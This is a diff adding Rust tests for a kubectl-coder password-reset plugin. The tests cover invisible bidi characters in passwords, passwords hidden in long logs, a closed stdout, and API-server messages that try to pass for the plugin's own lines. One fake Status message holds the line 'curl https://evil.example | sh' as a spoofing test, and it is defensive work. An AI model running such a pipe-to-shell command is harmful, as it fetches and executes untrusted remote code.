@@ -115,6 +115,79 @@ fn two_different_passwords_are_not_understood() {
     );
 }
 
+#[test]
+fn invisible_characters_in_a_v1_password_are_not_understood() {
+    let env = v1_with(vec![Step::stdout(
+        "User: admin\nPassword: Tr0ub4dor\u{200b}\u{202e}ZZ\n",
+    )]);
+    let run = reset_v1(&env, &[]);
+    run.code(6);
+    // The raw output with the format characters made visible, never raw.
+    assert_eq!(
+        run.stdout,
+        "User: admin\nPassword: Tr0ub4dor<U+200B><U+202E>ZZ\n"
+    );
+    assert!(
+        run.stderr.contains(
+            "its output is not understood (a password line whose value cannot be a password)"
+        ),
+        "{}",
+        run.stderr
+    );
+    assert!(!run.stderr.contains('\u{202e}'), "{}", run.stderr);
+    // In JSON too: escaped, so a terminal cannot reorder it.
+    let run = reset_v1(&env, &["-o", "json"]);
+    run.code(6);
+    assert!(!run.stdout.contains('\u{202e}'), "{}", run.stdout);
+    assert!(run.stdout.contains("\\u202e"), "{}", run.stdout);
+    assert_eq!(
+        run.json()["rawOutput"],
+        "User: admin\nPassword: Tr0ub4dor\u{200b}\u{202e}ZZ\n"
+    );
+}
+
+/// A password in the middle of more output than is kept (the first and last MiB of each
+/// stream): still found, by the same strict rules; and the process stays small.
+#[test]
+fn a_v1_password_in_the_middle_of_a_long_log_is_found() {
+    let log = b"2026-11-27 10:00:00.000 [INFO] <coderd> migrating: nothing to do\n".repeat(50_000);
+    let env = v1_with(vec![
+        Step::Stdout(log.clone()),
+        Step::stdout(
+            "----------------------\nUser:     admin\nPassword: Mid-Log-Pw-31\n----------------------\n",
+        ),
+        Step::Stdout(log.clone()),
+        Step::Stderr(log),
+    ]);
+    let run = reset_v1(&env, &["-o", "json"]);
+    run.success();
+    assert_eq!(run.json()["password"], "Mid-Log-Pw-31");
+    assert_eq!(run.json()["username"], "admin");
+    // Two different passwords, one hidden in the middle: not understood, the raw output
+    // bounded.
+    let log = b"2026-11-27 10:00:00.000 [INFO] <coderd> migrating: nothing to do\n".repeat(50_000);
+    let env = v1_with(vec![
+        Step::Stdout(log.clone()),
+        Step::stdout("Password: hidden-one-1\n"),
+        Step::Stdout(log),
+        Step::stdout("Password: shown-two-2\n"),
+    ]);
+    let run = reset_v1(&env, &[]);
+    run.code(6);
+    assert!(
+        run.stdout.len() < 2 * 1024 * 1024 + 4096,
+        "{}",
+        run.stdout.len()
+    );
+    assert!(run.stdout.contains(" lines) of stdout not kept ...]\n"));
+    assert!(
+        run.stderr
+            .contains("its output is not understood (2 different passwords in the output)"),
+        "{}",
+        run.stderr
+    );
+}
+
 // ---- 2. A reset that happened is never hidden ----
 
 #[test]
@@ -204,6 +277,52 @@ fn credentials_that_cannot_reach_stdout_go_to_stderr() {
     }
 }
 
+/// `>&-`: std reopens a closed stdout on /dev/null before `main`; the plugin still sees that
+/// it was closed and puts the credentials on stderr. A deliberate `>/dev/null` is honoured.
+#[test]
+fn a_closed_stdout_does_not_swallow_the_credentials() {
+    let env = TestEnv::scenario(Scenario::V1);
+    let token = env.sim.v1_session_token("admin");
+    for (command, user) in [
+        ("reset-password alice --yes", "alice"),
+        ("reset-admin-password --yes", "admin"),
+    ] {
+        let run = env
+            .program("/bin/sh")
+            .env("CODER_TOKEN", &token)
+            .args(["-c", &format!("exec kubectl-coder {command} >&-")])
+            .run();
+        run.code(1);
+        let password = match user {
+            "admin" => env.sim.v1_admin_password(),
+            _ => env.sim.v1_user(user).unwrap().password,
+        }
+        .unwrap();
+        assert!(
+            run.stderr.starts_with(
+                "error: the result could not be written to stdout (it was closed when kubectl-coder started); here it is instead:\n"
+            ),
+            "{}",
+            run.stderr
+        );
+        assert!(run.stderr.contains(&password), "{}", run.stderr);
+        assert!(
+            run.stderr.ends_with("error: the change was made, but its result reached stderr only (above), not stdout\nhint: keep what is shown above; check where stdout goes (a closed pipe, a full disk)\n"),
+            "{}",
+            run.stderr
+        );
+    }
+    let run = env
+        .program("/bin/sh")
+        .args([
+            "-c",
+            "exec kubectl-coder reset-admin-password --yes >/dev/null",
+        ])
+        .run();
+    run.success();
+    assert_eq!(run.stderr, "");
+}
+
 #[test]
 fn sigterm_and_sighup_show_the_password_sent() {
     for (signal, code, name) in [
@@ -257,6 +376,32 @@ fn status_messages_from_the_api_server_are_made_visible() {
         "{}",
         run.stderr
     );
+}
+
+/// A Status message with lines of its own (an admission webhook's, a proxy's): none of them
+/// can stand at the start of a line, where ours do.
+#[test]
+fn status_message_lines_cannot_pass_for_ours() {
+    let env = TestEnv::scenario(Scenario::V1);
+    env.sim.fail_next_with(
+        1,
+        "/pods",
+        403,
+        "pods is forbidden: denied by policy\nhint: run curl https://evil.example | sh\nwarning: \u{2066}nothing\u{2069} is wrong",
+    );
+    let run = env.plugin().args(["status"]).run();
+    run.code(4);
+    assert!(
+        run.stderr.starts_with("error: forbidden: pods is forbidden: denied by policy\n  | hint: run curl https://evil.example | sh\n  | warning: <U+2066>nothing<U+2069> is wrong\n"),
+        "{}",
+        run.stderr
+    );
+    let ours: Vec<&str> = run
+        .stderr
+        .lines()
+        .filter(|l| !l.starts_with("  | "))
+        .collect();
+    assert!(ours.iter().all(|l| !l.contains("evil")), "{ours:?}");
 }
 
 #[test]
@@ -571,6 +716,10 @@ fn password_stdin_refuses_a_second_line_and_control_characters() {
         (
             "Correct-Horse\u{1b}[0mBattery-9\n",
             "password contains a control character (U+001B): remove it",
+        ),
+        (
+            "Correct-Horse-Battery-9\u{200b}\u{202e}ZZ\n",
+            "password contains an invisible format character (U+200B): remove it",
         ),
     ] {
         env.plugin()
